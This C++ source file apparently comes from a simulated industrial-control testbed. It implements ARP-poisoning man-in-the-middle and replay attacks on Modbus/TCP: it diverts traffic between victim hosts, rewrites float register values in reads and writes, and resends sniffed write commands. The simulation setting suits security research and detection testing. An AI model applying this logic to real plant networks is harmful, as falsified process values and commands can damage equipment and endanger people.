#include <algorithm>
#include <cmath>
#include <set>

#include "icsbed/modbus/codec.hpp"
#include "icsbed/modbus/wide_value.hpp"
#include "operations.hpp"

namespace icsbed::attack {

namespace {

constexpr std::uint16_t kModbusPort = 502;
constexpr std::size_t kWriteValuesAt = 13; // MBAP 7 + fc + start + qty + byte count
constexpr std::size_t kReadValuesAt = 9;   // MBAP 7 + fc + byte count

std::uint16_t be16(ByteView b, std::size_t at)
{
    return static_cast<std::uint16_t>((b[at] << 8) | b[at + 1]);
}

/// ARP poisoning between every ordered pair of victims, shared by the MITM
/// and replay attacks.
class Diverting : public Operation {
public:
    using Operation::Operation;

    ~Diverting() override { *token_ = false; }

    bool intercepting() const override { return diverting_; }

protected:
    /// Resolves every victim, then calls `ready` (possibly synchronously).
    void resolve_victims(std::function<void(bool)> ready)
    {
        victims_.clear();
        for (const auto& v : cfg().victims) victims_.push_back(host_ip(v));
        auto remaining = std::make_shared<std::size_t>(victims_.size());
        auto ok = std::make_shared<bool>(true);
        std::weak_ptr<bool> alive = token_;
        for (const auto ip : victims_) {
            nic().resolve(ip, [this, alive, ip, remaining, ok, ready](std::optional<net::MacAddr> mac) {
                if (alive.expired()) return;
                if (mac) {
                    true_macs()[ip] = *mac;
                } else {
                    *ok = false;
                }
                if (--*remaining == 0) ready(*ok);
            });
        }
    }

    void start_poisoning(SimTime until)
    {
        diverting_ = true;
        poison_until_ = until;
        poison_round();
    }

    /// Corrective replies: every victim learns the true MAC of every other.
    void restore()
    {
        const auto& macs = true_macs();
        for (const auto victim : victims_) {
            for (const auto other : victims_) {
                if (victim == other) continue;
                const auto vm = macs.at(victim);
                nic().send_arp(net::ArpPacket::reply(macs.at(other), other, vm, victim), vm);
                ++restores_;
            }
        }
        poisoning_ = false;
    }

    bool is_victim(net::Ipv4Addr ip) const { return std::find(victims_.begin(), victims_.end(), ip) != victims_.end(); }
    bool between_victims(const Diverted& d) const { return d.src != d.dst && is_victim(d.src) && is_victim(d.dst); }

    std::vector<net::Ipv4Addr> victims_;
    bool diverting_ = false;
    bool poisoning_ = false;
    std::uint64_t poison_sent_ = 0;
    std::uint64_t restores_ = 0;
    std::uint64_t frames_seen_ = 0;
    std::shared_ptr<bool> token_ = std::make_shared<bool>(true);

private:
    void poison_round()
    {
        if (now() >= poison_until_) return;
        poisoning_ = true;
        const auto& macs = true_macs();
        for (const auto victim : victims_) {
            for (const auto other : victims_) {
                if (victim == other) continue;
                const auto vm = macs.at(victim);
                nic().send_arp(net::ArpPacket::reply(nic().mac(), other, vm, victim), vm);
                ++poison_sent_;
            }
        }
        at(now() + cfg().poison_interval, [this] {
            if (!done() && poisoning_) poison_round();
        });
    }

    SimTime poison_until_{0};
};

class Mitm final : public Diverting {
public:
    using Diverting::Diverting;

    void begin() override
    {
        end_ = record().start + cfg().duration;
        resolve_victims([this](bool ok) {
            if (!ok) {
                emit("mitm: victim did not answer ARP, nothing diverted");
                publish(false);
                at(end_, [this] { finish(now()); });
                return;
            }
            start_poisoning(end_);
            at(end_, [this] { stop(); });
        });
    }

    void intercept(Diverted& d) override
    {
        if (!between_victims(d)) return;
        ++frames_seen_;
        if (d.payload_len == 0) return;
        const bool to_server = d.dst_port == kModbusPort;
        const bool from_server = d.src_port == kModbusPort;
        if (!to_server && !from_server) return;
        const auto dir = to_server ? modbus::Direction::Request : modbus::Direction::Response;
        std::size_t pos = 0;
        bool changed = false;
        while (pos < d.payload_len) {
            const auto view = d.payload().subspan(pos);
            const auto res = modbus::decode_adu(view, dir);
            if (res.status == modbus::DecodeResult::Status::NeedMore || res.consumed == 0) break;
            if (res.ok()) {
                changed |= to_server ? on_request(d, pos, res.adu) : on_response(d, pos, res.adu);
            }
            pos += res.consumed;
        }
        if (changed) {
            d.mutated = true;
            ++mutated_packets_;
        }
    }

    void cut_short() override
    {
        diverting_ = false;
        publish(true);
    }

private:
    using ReadKey = std::tuple<net::Ipv4Addr, std::uint16_t, std::uint16_t>;

    bool applies(const InjectionRule& r, bool request) const
    {
        if (r.direction == RuleDirection::Both) return true;
        return request == (r.direction == RuleDirection::Requests);
    }

    float replacement(const InjectionRule& r, float current)
    {
        switch (r.mode) {
        case RuleMode::Set: return static_cast<float>(r.value);
        case RuleMode::Offset: return static_cast<float>(static_cast<double>(current) + r.value);
        case RuleMode::Random: return static_cast<float>(rng().uniform(r.low, r.high));
        }
        return current;
    }

    /// Rewrites every rule-covered register pair among `count` registers
    /// starting at `first`, located at `values_at` inside the IPv4 bytes.
    bool rewrite(Diverted& d, int plc, std::uint16_t first, std::size_t count, std::size_t values_at, bool request)
    {
        bool changed = false;
        for (const auto& r : cfg().rules) {
            if (!applies(r, request)) continue;
            const auto* def = signals().find(r.signal);
            if (!def || def->plc != plc) continue;
            if (def->address < first || def->address + 2u > first + count) continue;
            const std::size_t at = values_at + (def->address - first) * 2u;
            auto& bytes = d.ip_bytes;
            const float current =
                modbus::regs_to_float(modbus::RegisterPair{be16(bytes, at), be16(bytes, at + 2)});
            const auto regs = modbus::float_to_regs(replacement(r, current));
            const std::uint8_t fresh[4] = {static_cast<std::uint8_t>(regs[0] >> 8), static_cast<std::uint8_t>(regs[0]),
                                           static_cast<std::uint8_t>(regs[1] >> 8), static_cast<std::uint8_t>(regs[1])};
            if (!std::equal(fresh, fresh + 4, bytes.begin() + static_cast<std::ptrdiff_t>(at))) {
                std::copy(fresh, fresh + 4, bytes.begin() + static_cast<std::ptrdiff_t>(at));
                changed = true;
            }
            ++values_rewritten_;
        }
        return changed;
    }

    bool on_request(Diverted& d, std::size_t pos, const modbus::Adu& adu)
    {
        if (const auto* rd = std::get_if<modbus::ReadHoldingRequest>(&adu.pdu)) {
            reads_[ReadKey{d.src, d.src_port, adu.transaction_id}] = rd->start;
            return false;
        }
        if (const auto* wr = std::get_if<modbus::WriteMultipleRequest>(&adu.pdu)) {
            return rewrite(d, plc_at(d.dst), wr->start, wr->values.size(), d.payload_offset + pos + kWriteValuesAt,
                           true);
        }
        return false;
    }

    bool on_response(Diverted& d, std::size_t pos, const modbus::Adu& adu)
    {
        const auto* rr = std::get_if<modbus::ReadHoldingResponse>(&adu.pdu);
        const auto it = reads_.find(ReadKey{d.dst, d.dst_port, adu.transaction_id});
        if (it == reads_.end()) return false;
        const std::uint16_t first = it->second;
        reads_.erase(it);
        if (!rr) return false;
        return rewrite(d, plc_at(d.src), first, rr->values.size(), d.payload_offset + pos + kReadValuesAt, false);
    }

    void stop()
    {
        restore();
        diverting_ = false;
        publish(true);
        finish(now());
    }

    void publish(bool diverted)
    {
        record().outcome = {{"diverted", diverted},
                            {"poison_sent", poison_sent_},
                            {"restores_sent", restores_},
                            {"frames_intercepted", frames_seen_},
                            {"packets_mutated", mutated_packets_},
                            {"values_rewritten", values_rewritten_}};
    }

    SimTime end_{0};
    std::map<ReadKey, std::uint16_t> reads_;
    std::uint64_t mutated_packets_ = 0;
    std::uint64_t values_rewritten_ = 0;
};

/// Transparent MITM that records write requests, then resends them from
/// fresh connections in later windows.
class Replay final : public Diverting {
public:
    using Diverting::Diverting;

    const std::vector<SniffedPayload>& payloads() const { return sniffed_; }

    void begin() override
    {
        const SimTime s = record().start;
        sniff_end_ = s + cfg().sniff;
        resolve_victims([this](bool ok) {
            if (!ok) {
                emit("replay: victim did not answer ARP, nothing sniffed");
            } else {
                start_poisoning(sniff_end_);
            }
            at(sniff_end_, [this, ok] { end_sniff(ok); });
        });
    }

    void intercept(Diverted& d) override
    {
        if (!between_victims(d) || now() >= sniff_end_) return;
        ++frames_seen_;
        if (d.dst_port != kModbusPort || d.payload_len == 0) return;
        std::size_t pos = 0;
        bool carried_write = false;
        while (pos < d.payload_len) {
            const auto view = d.payload().subspan(pos);
            const auto res = modbus::decode_adu(view, modbus::Direction::Request);
            if (res.status == modbus::DecodeResult::Status::NeedMore || res.consumed == 0) break;
            if (res.ok() && std::holds_alternative<modbus::WriteMultipleRequest>(res.adu.pdu)) {
                SniffedPayload p;
                p.captured_at = d.now;
                p.offset = d.now - record().start;
                p.src = tcp::Endpoint{d.src, d.src_port};
                p.dst = tcp::Endpoint{d.dst, d.dst_port};
                p.adu.assign(view.begin(), view.begin() + static_cast<std::ptrdiff_t>(res.consumed));
                sniffed_.push_back(std::move(p));
                carried_write = true;
            }
            pos += res.consumed;
        }
        if (carried_write && raw_.empty()) {
            raw_ = d.ip_bytes;
            raw_dst_ = d.dst;
        }
    }

    void cut_short() override
    {
        diverting_ = false;
        for (auto& [ip, c] : clients_) c->disconnect();
        publish();
    }

private:
    void end_sniff(bool diverted)
    {
        diverting_ = false;
        if (diverted) {
            restore();
            if (cfg().reinject_control && !raw_.empty()) {
                net::EthernetFrame f;
                f.dst = true_macs().at(raw_dst_);
                f.src = nic().mac();
                f.ethertype = net::kEtherTypeIpv4;
                f.payload = raw_;
                nic().send_frame(std::move(f));
                ++reinjected_;
            }
        }
        emit("replay: sniffed " + std::to_string(sniffed_.size()) + " write requests");
        for (int w = 1; w <= cfg().replay_count; ++w) {
            const SimTime window = record().start + cfg().sniff * w;
            at(window, [this] { open_window(); });
            for (std::size_t i = 0; i < sniffed_.size(); ++i) {
                at(window + sniffed_[i].offset, [this, i] { resend(i); });
            }
            at(window + cfg().sniff, [this, w] { close_window(w); });
        }
        publish();
    }

    void open_window()
    {
        clients_.clear();
        for (const auto& p : sniffed_) {
            if (!clients_.contains(p.dst)) {
                clients_.emplace(p.dst, std::make_unique<modbus::ModbusClient>(stack(), p.dst));
            }
        }
    }

    void resend(std::size_t i)
    {
        const auto& p = sniffed_[i];
        auto it = clients_.find(p.dst);
        if (it == clients_.end()) return;
        ++replayed_;
        std::weak_ptr<bool> alive = token_;
        it->second->send_raw(p.adu, [this, alive](const modbus::ClientResult& r) {
            if (alive.expired()) return;
            ++(r.ok() ? acked_ : failed_);
        });
    }

    void close_window(int w)
    {
        for (auto& [ep, c] : clients_) c->disconnect();
        publish();
        if (w == cfg().replay_count) {
            finish(now());
        }
    }

    void publish()
    {
        record().outcome = {{"poison_sent", poison_sent_},
                            {"restores_sent", restores_},
                            {"frames_intercepted", frames_seen_},
                            {"payloads_sniffed", sniffed_.size()},
                            {"control_reinjected", reinjected_},
                            {"payloads_replayed", replayed_},
                            {"replay_acked", acked_},
                            {"replay_failed", failed_}};
    }

    SimTime sniff_end_{0};
    std::vector<SniffedPayload> sniffed_;
    Bytes raw_;
    net::Ipv4Addr raw_dst_;
    std::map<tcp::Endpoint, std::unique_ptr<modbus::ModbusClient>> clients_;
    std::uint64_t reinjected_ = 0;
    std::uint64_t replayed_ = 0;
    std::uint64_t acked_ = 0;
    std::uint64_t failed_ = 0;
};

} // namespace

std::unique_ptr<Operation> make_mitm(Attacker& a, int id)
{
    return std::make_unique<Mitm>(a, id);
}

std::unique_ptr<Operation> make_replay(Attacker& a, int id)
{
    return std::make_unique<Replay>(a, id);
}

const std::vector<SniffedPayload>* replay_payloads(const Operation& op)
{
    if (const auto* r = dynamic_cast<const Replay*>(&op)) return &r->payloads();
    return nullptr;
}

} // namespace icsbed::attack
